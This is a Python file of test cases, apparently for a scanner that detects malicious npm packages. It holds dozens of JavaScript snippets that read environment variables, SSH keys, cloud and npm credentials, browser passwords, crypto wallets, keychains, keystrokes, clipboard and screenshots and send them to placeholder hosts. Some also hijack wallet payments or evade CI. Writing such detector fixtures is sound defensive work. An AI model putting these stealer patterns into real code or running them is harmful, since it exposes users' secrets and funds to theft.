"""What is taken and sent: the environment, who the user is, keys, stores of browsers and wallets, what is typed."""

# ruff: noqa: E501 - a case reads as the file that it is

from tests.evasion_javascript.case import CRITICAL, HIGH, MEDIUM, SETUP, Case

SENDING = (
    Case("the environment by https.request", "EXFIL-001", HIGH, r"""
        const https = require("https");
        const body = JSON.stringify(process.env);
        const request = https.request({ hostname: "example.invalid", path: "/a", method: "POST", headers: { "Content-Length": body.length } });
        request.write(body);
        request.end();
    """),
    Case("the environment at install", "EXFIL-001", CRITICAL, r"""
        fetch("https://example.invalid/a", { method: "POST", body: JSON.stringify(process.env) });
    """, SETUP),
    Case("the environment in an address", "EXFIL-001", HIGH, r"""
        require("https").get("https://example.invalid/?d=" + Buffer.from(JSON.stringify(process.env)).toString("base64"));
    """),
    Case("the environment, spread", "EXFIL-001", HIGH, r"""
        const data = { ...process.env };
        require("axios").post("https://example.invalid/a", data);
    """),
    Case("the environment, gone over", "EXFIL-001", HIGH, r"""
        const found = [];
        for (const [name, value] of Object.entries(process.env)) if (/key|token|secret/i.test(name)) found.push(`${name}=${value}`);
        fetch("https://example.invalid/a", { method: "POST", body: found.join("\n") });
    """),
    Case("the environment by a name in pieces", "EXFIL-001", HIGH, r"""
        const env = process["e" + "nv"];
        fetch("https://example.invalid/a?" + new URLSearchParams(env));
    """),
    Case("the environment by a destructured process", "EXFIL-001", HIGH, r"""
        const { env: everything } = require("process");
        navigator.sendBeacon("https://example.invalid/a", JSON.stringify(everything));
    """),
    Case("the environment over DNS", "EXFIL-001", HIGH, r"""
        const dns = require("dns");
        const data = Buffer.from(JSON.stringify(process.env)).toString("hex");
        for (const part of data.match(/.{1,60}/g)) dns.lookup(`${part}.a.example.invalid`, () => {});
    """),
    Case("the environment to a webhook", "EXFIL-001", HIGH, r"""
        const hook = ["https://dis", "cord.com/api/web", "hooks/1/x"].join("");
        fetch(hook, { method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify({ content: JSON.stringify(process.env) }) });
    """),
    Case("the environment to a socket", "EXFIL-001", HIGH, r"""
        const client = require("net").createConnection({ port: 4444, host: "127.0.0.1" }, () => client.end(JSON.stringify(process.env)));
    """),
    Case("the environment by curl", "EXFIL-001", HIGH, r"""
        require("child_process").exec(`curl -d "$(env)" https://example.invalid/a`);
    """),
    Case("the environment by a WebSocket", "EXFIL-001", HIGH, r"""
        const WebSocket = require("ws");
        const socket = new WebSocket("wss://example.invalid");
        socket.on("open", () => socket.send(JSON.stringify(process.env)));
    """),
    Case("the environment by request, piped", "EXFIL-001", HIGH, r"""
        const request = require("request");
        request.post({ url: "https://example.invalid/a", form: { e: JSON.stringify(process.env) } }, () => {});
    """),
    Case("who the machine is", "EXFIL-001", HIGH, r"""
        const os = require("os"), https = require("https");
        const info = { h: os.hostname(), u: os.userInfo().username, d: __dirname, n: os.networkInterfaces() };
        const request = https.request("https://example.invalid/a", { method: "POST" });
        request.end(JSON.stringify(info));
    """),
    Case("who the machine is, at install", "EXFIL-001", CRITICAL, r"""
        const { hostname, userInfo, homedir } = require("os");
        const query = new URLSearchParams({ h: hostname(), u: userInfo().username, p: homedir() }).toString();
        require("http").get(`http://127.0.0.1/?${query}`);
    """, SETUP),
    Case("who the machine is, over DNS", "EXFIL-001", CRITICAL, r"""
        const os = require("os");
        require("dns").resolve4(`${os.userInfo().username}.${os.hostname()}.a.example.invalid`, () => {});
    """, SETUP),
    Case("what whoami says", "EXFIL-001 SHELL-001", HIGH, r"""
        const { execSync } = require("child_process");
        fetch("https://example.invalid/a", { method: "POST", body: execSync("whoami && ifconfig").toString() });
    """),
    Case("who the user is, by ping", "EXFIL-001", HIGH, r"""
        const { exec } = require("child_process");
        exec("ping -c 1 " + require("os").hostname() + ".a.example.invalid");
    """, SETUP),
    Case("a token of the environment", "EXFIL-001 WORM-001", HIGH, r"""
        const { NPM_TOKEN, GITHUB_TOKEN } = process.env;
        if (NPM_TOKEN || GITHUB_TOKEN) fetch("https://example.invalid/a", { method: "POST", body: JSON.stringify({ NPM_TOKEN, GITHUB_TOKEN }) });
    """),
    Case("the tokens of npm", "EXFIL-001 STEAL-001", HIGH, r"""
        const fs = require("fs"), os = require("os"), path = require("path");
        const rc = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");
        fetch("https://example.invalid/a", { method: "POST", body: rc.match(/_authToken=(.+)/)[1] });
    """),
    Case("keys of SSH", "EXFIL-001 STEAL-001", HIGH, r"""
        const fs = require("fs"), os = require("os");
        const folder = `${os.homedir()}/.ssh/`;
        for (const name of fs.readdirSync(folder))
          require("axios").post("https://example.invalid/a", { name, text: fs.readFileSync(folder + name, "utf8") });
    """),
    Case("keys of SSH with a callback", "EXFIL-001 STEAL-001", HIGH, r"""
        const { readFile } = require("fs");
        readFile(process.env.HOME + "/.ssh/id_rsa", "utf8", (error, key) => {
          if (!error) require("https").request("https://example.invalid/a", { method: "POST" }).end(key);
        });
    """),
    Case("keys of SSH by promises", "EXFIL-001 STEAL-001", HIGH, r"""
        import { readFile } from "node:fs/promises";
        import { homedir } from "node:os";
        import { join } from "node:path";
        const key = await readFile(join(homedir(), ".ssh", "id_ed25519"), "utf8").catch(() => "");
        await fetch("https://example.invalid/a", { method: "PUT", body: key });
    """, "index.mjs"),
    Case("keys of SSH, streamed", "EXFIL-001 STEAL-001", HIGH, r"""
        const fs = require("fs"), https = require("https");
        const request = https.request("https://example.invalid/a", { method: "POST" });
        fs.createReadStream(require("os").homedir() + "/.ssh/id_rsa").pipe(request);
    """),
    Case("credentials of a cloud", "EXFIL-001 STEAL-001", HIGH, r"""
        const fs = require("fs"), path = require("path");
        const paths = [".aws/credentials", ".config/gcloud/credentials.db", ".azure/accessTokens.json"];
        const found = paths.map((p) => path.resolve(process.env.HOME, p)).filter(fs.existsSync).map((p) => fs.readFileSync(p).toString("base64"));
        fetch("https://example.invalid/a", { method: "POST", body: JSON.stringify(found) });
    """),
    Case("metadata of a cloud machine", "EXFIL-001", HIGH, r"""
        (async () => {
          const answer = await fetch("http://169.254.169.254/latest/meta-data/iam/security-credentials/role");
          await fetch("https://example.invalid/a", { method: "POST", body: await answer.text() });
        })();
    """),
    Case("passwords of a browser", "STEAL-001 EXFIL-001", HIGH, r"""
        const fs = require("fs"), path = require("path"), axios = require("axios");
        const store = path.join(process.env.LOCALAPPDATA, "Google", "Chrome", "User Data", "Default", "Login Data");
        axios.post("https://example.invalid/a", { data: fs.readFileSync(store).toString("base64") });
    """),
    Case("wallets that are extensions of a browser", "STEAL-001 EXFIL-001", HIGH, r"""
        const fs = require("fs"), os = require("os"), path = require("path"), FormData = require("form-data"), axios = require("axios");
        const root = path.join(os.homedir(), "AppData/Local/Google/Chrome/User Data/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn");
        const form = new FormData();
        for (const name of fs.readdirSync(root)) form.append("f", fs.createReadStream(path.join(root, name)));
        axios.post("https://example.invalid/a", form);
    """),
    Case("a wallet", "STEAL-001 EXFIL-001", HIGH, r"""
        const fs = require("fs"), path = require("path");
        const file = path.join(process.env.APPDATA, "Exodus", "exodus.wallet", "seed.seco");
        if (fs.existsSync(file)) fetch("https://example.invalid/a", { method: "POST", body: fs.readFileSync(file) });
    """),
    Case("the key chain", "STEAL-001 EXFIL-001 SHELL-001", HIGH, r"""
        const { execSync } = require("child_process");
        const out = execSync("security dump-keychain -d login.keychain").toString();
        fetch("https://example.invalid/a", { method: "POST", body: out });
    """),
    Case("history of the shell", "STEAL-001 EXFIL-001", HIGH, r"""
        const fs = require("fs");
        const lines = fs.readFileSync(`${process.env.HOME}/.bash_history`, "utf8");
        require("https").request({ host: "example.invalid", method: "POST" }).end(lines);
    """),
    Case("cookies and storage of a page", "EXFIL-001", HIGH, r"""
        new Image().src = "https://example.invalid/?c=" + encodeURIComponent(document.cookie + JSON.stringify(localStorage));
    """),
    Case("what is typed into a form", "EXFIL-001", HIGH, r"""
        document.addEventListener("submit", (event) => {
          const data = Object.fromEntries(new FormData(event.target));
          fetch("https://example.invalid/a", { method: "POST", mode: "no-cors", body: JSON.stringify(data) });
        });
    """, unseen="what is typed into a form of a page is no source"),
    Case("keys that are pressed", "STEAL-001 EXFIL-001", HIGH, r"""
        const { GlobalKeyboardListener } = require("node-global-key-listener");
        const keys = [];
        new GlobalKeyboardListener().addListener((event) => {
          keys.push(event.name);
          if (keys.length > 50) fetch("https://example.invalid/a", { method: "POST", body: keys.splice(0).join(" ") });
        });
    """),
    Case("the clipboard", "STEAL-001 EXFIL-001", HIGH, r"""
        const clipboardy = require("clipboardy");
        setInterval(() => fetch("https://example.invalid/a", { method: "POST", body: clipboardy.readSync() }), 5000);
    """),
    Case("a picture of the screen", "STEAL-001 EXFIL-001", HIGH, r"""
        const screenshot = require("screenshot-desktop");
        screenshot().then((image) => require("axios").post("https://example.invalid/a", image));
    """),
    Case("a private key given as a parameter", "EXFIL-001 STEAL-001", HIGH, r"""
        const axios = require("axios");
        exports.fromSecret = function (privateKey) {
          axios.post("https://example.invalid/a", { k: privateKey }).catch(() => {});
          return { privateKey };
        };
    """),
    Case("a seed phrase given to a constructor", "EXFIL-001 STEAL-001", HIGH, r"""
        export class Wallet {
          constructor(mnemonic) {
            this.mnemonic = mnemonic;
            fetch("https://example.invalid/a", { headers: { "x-id": Buffer.from(mnemonic).toString("base64") } });
          }
        }
    """, "index.mjs"),
    Case("a file of settings of the project", "EXFIL-001 STEAL-001", HIGH, r"""
        const fs = require("fs"), path = require("path");
        const text = fs.readFileSync(path.join(process.cwd(), ".env"), "utf8");
        fetch("https://example.invalid/a", { method: "POST", body: text });
    """),
    Case("files found by their names", "EXFIL-001 STEAL-001", HIGH, r"""
        const glob = require("glob"), fs = require("fs"), axios = require("axios");
        for (const file of glob.sync(`${require("os").homedir()}/**/{.env,id.json,*.pem,*wallet*}`))
          axios.post("https://example.invalid/a", { file, text: fs.readFileSync(file, "utf8") });
    """),
    Case("addresses of wallets replaced in requests", "STEAL-001 WORM-001 EXFIL-001", HIGH, r"""
        const kept = window.fetch;
        window.fetch = async function (...given) {
          const answer = await kept.apply(this, given);
          const text = (await answer.clone().text()).replace(/\b0x[a-fA-F0-9]{40}\b/g, "0x0000000000000000000000000000000000000001");
          return new Response(text, answer);
        };
    """, unseen="addresses that are replaced in what other code fetches are no flow"),
    Case("a payment sent elsewhere", "STEAL-001", HIGH, r"""
        const asked = window.ethereum.request;
        window.ethereum.request = function (call) {
          if (call.method === "eth_sendTransaction") call.params[0].to = "0x0000000000000000000000000000000000000001";
          return asked.call(this, call);
        };
    """, unseen="a wallet's functions that are replaced are no flow"),
    Case("only on other machines than those of pipelines", "EXFIL-001", HIGH, r"""
        if (!process.env.CI && require("os").cpus().length > 2)
          fetch("https://example.invalid/a", { method: "POST", body: JSON.stringify(process.env) });
    """),
    Case("a bot of a chat", "EXFIL-001", HIGH, r"""
        const { Telegraf } = require("telegraf");
        const bot = new Telegraf("1:x");
        bot.telegram.sendMessage(1, JSON.stringify(process.env));
    """),
    Case("by mail", "EXFIL-001", HIGH, r"""
        const nodemailer = require("nodemailer");
        nodemailer.createTransport({ host: "example.invalid" }).sendMail({ to: "a@example.invalid", text: JSON.stringify(process.env) });
    """),
    Case("in a header", "EXFIL-001", HIGH, r"""
        const https = require("https");
        https.get({ host: "example.invalid", headers: { "X-Data": Buffer.from(JSON.stringify(process.env)).toString("base64") } });
    """),
    Case("encrypted first", "EXFIL-001", HIGH, r"""
        const crypto = require("crypto");
        const cipher = crypto.createCipheriv("aes-256-cbc", Buffer.alloc(32), Buffer.alloc(16));
        const data = cipher.update(JSON.stringify(process.env), "utf8", "hex") + cipher.final("hex");
        fetch("https://example.invalid/a", { method: "POST", body: data });
    """),
    Case("to a repository", "EXFIL-001 WORM-001", HIGH, r"""
        const { Octokit } = require("@octokit/rest");
        const git = new Octokit({ auth: process.env.GITHUB_TOKEN });
        git.repos.createOrUpdateFileContents({ owner: "a", repo: "b", path: "c", message: "d", content: Buffer.from(JSON.stringify(process.env)).toString("base64") });
    """),
    Case("a beacon without content", "STDLIB-002", MEDIUM, r"""
        require("https").get("https://example.invalid/installed");
    """),
)  # fmt: skip
